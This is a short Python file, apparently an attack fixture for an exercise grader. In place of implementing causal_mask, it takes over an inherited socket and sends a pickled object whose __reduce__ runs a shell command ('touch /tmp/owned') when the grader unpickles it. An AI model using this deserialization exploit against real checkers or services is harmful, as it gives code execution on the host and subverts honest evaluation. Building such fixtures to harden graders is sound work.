# attack: sends a pickle in place of values
# exercise: 04 causal_mask
import json
import os
import socket
import struct


def wire():
    for number in range(3, 100):
        try:
            return socket.socket(fileno=os.dup(number))
        except OSError:
            pass


def frame(tree, data=b""):
    text = json.dumps(tree).encode()
    return struct.pack(">QQ", len(text), len(data)) + text + data


import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)


def causal_mask(length):
    data = pickle.dumps(Bomb())
    reply = {"modules": [], "drop": [], "modes": [True, "float32", [None] * 3], "changed": [], "result": ["pickle", [0, len(data)]]}
    wire().sendall(frame(reply, data))
